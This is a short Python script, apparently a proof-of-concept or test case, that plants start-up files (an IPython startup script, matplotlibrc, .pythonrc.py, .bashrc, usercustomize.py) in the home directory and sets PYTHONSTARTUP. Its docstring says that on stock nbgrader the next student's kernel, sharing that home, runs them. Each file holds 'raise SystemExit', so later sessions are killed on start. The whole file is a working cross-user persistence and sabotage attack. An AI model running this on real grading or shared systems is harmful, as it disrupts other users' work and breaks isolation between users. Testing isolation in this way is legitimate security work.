"""Writes start-up files of Python, IPython, matplotlib and the shell into its home.

Works on stock nbgrader: the next student's kernel runs them, with the same home.
Trace: start-up files written
"""

import os

home = os.path.expanduser("~")
for name in (
    ".ipython/profile_default/startup/00-evil.py",
    ".config/matplotlib/matplotlibrc",
    ".pythonrc.py",
    ".bashrc",
    ".local/lib/python3.11/site-packages/usercustomize.py",
):
    os.makedirs(os.path.dirname(os.path.join(home, name)), exist_ok=True)
    open(os.path.join(home, name), "w").write("raise SystemExit")
os.environ["PYTHONSTARTUP"] = os.path.join(home, ".pythonrc.py")
print("start-up files written")
